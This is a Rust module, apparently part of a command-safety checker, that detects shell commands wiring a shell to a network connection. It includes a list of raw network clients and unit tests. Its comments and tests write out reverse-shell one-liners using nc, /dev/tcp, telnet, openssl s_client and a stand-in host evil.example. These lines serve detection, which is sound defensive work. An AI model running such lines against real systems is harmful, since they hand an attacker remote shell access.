//! A shell whose script comes from the network or whose output goes to it: a shell opened to
//! the network, forbidden as `nc -e /bin/sh HOST PORT` is. A shell reading its script from its
//! input (no `-c`, no script operand) is opened to the network where that input is a
//! connection (`sh -i < /dev/tcp/HOST/PORT`, `bash 0<>/dev/udp/HOST/PORT`) or where a raw
//! network client stands next to it in the pipeline, feeding it or taking what it prints
//! (`nc HOST PORT | sh`, `cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`, `telnet HOST P |
//! /bin/sh | telnet HOST Q`, `openssl s_client -connect HOST:PORT | sh`). A script fetched
//! once by a download client (`curl URL | sh`) stays a human's decision.

use crate::normalize::{Payload, resolve};
use crate::parse::Command;

/// Clients that carry raw bytes both ways over a connection.
const RAW_CLIENTS: &[&str] = &["nc", "ncat", "netcat", "socat", "telnet", "cryptcat"];

/// Why `parts` (one line's commands, in order) open a shell to the network, if they do.
pub fn opened(parts: &[Command]) -> Option<String> {
    for (index, part) in parts.iter().enumerate() {
        if !reads_its_script_from_input(part) {
            continue;
        }
        if let Some(source) = part
            .reads_from
            .iter()
            .chain(&part.writes_to)
            .find(|p| is_connection(p))
        {
            return Some(format!(
                "a shell reads its script from {source}: opens a shell to the network"
            ));
        }
        let before = index
            .checked_sub(1)
            .and_then(|at| parts.get(at))
            .filter(|_| part.after_pipe);
        let after = parts.get(index + 1).filter(|next| next.after_pipe);
        if let Some(client) = before.into_iter().chain(after).find(|p| is_raw_client(p)) {
            return Some(format!(
                "a shell piped to or from {}: opens a shell to the network",
                client.words.join(" ")
            ));
        }
    }
    None
}

/// Whether the command is a shell that runs what its input holds.
fn reads_its_script_from_input(part: &Command) -> bool {
    crate::normalize::shell_reading_input(&part.words).is_some()
}

/// Whether the command is a raw network client (`openssl s_client` among them).
fn is_raw_client(part: &Command) -> bool {
    let Payload::Program { name, args } = resolve(&part.words).payload else {
        return false;
    };
    RAW_CLIENTS.contains(&name.as_str())
        || (name == "openssl" && args.first().is_some_and(|a| a == "s_client"))
}

/// Bash's network paths: `/dev/tcp/HOST/PORT`, `/dev/udp/HOST/PORT`.
fn is_connection(path: &str) -> bool {
    path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn opens(line: &str) -> bool {
        let (parts, _) = crate::parse::commands(line).unwrap_or_default();
        opened(&parts).is_some()
    }

    #[test]
    fn shells_fed_by_or_feeding_a_connection_are_opened_to_the_network() {
        for line in [
            "sh -i < /dev/tcp/10.0.0.1/4444 1>&0 2>&0",
            "nc 10.0.0.1 4444 | sh",
            "cat /tmp/f | sh -i 2>&1 | nc evil.example 4444 > /tmp/f",
            "telnet h 1 | /bin/sh | telnet h 2",
            "openssl s_client -quiet -connect h:443 | bash",
            "nc.traditional h 1 | sudo bash -s",
        ] {
            assert!(opens(line), "{line}");
        }
    }

    #[test]
    fn other_shells_and_clients_are_not() {
        for line in [
            "curl -fsSL https://example.com/i | sh",
            "nc -z h 80",
            "echo ls | sh",
            "sh -c 'ls' | nc h 1",
            "sh script.sh | nc h 1",
            "nc h 1 < /tmp/x; sh",
        ] {
            assert!(!opens(line), "{line}");
        }
    }
}
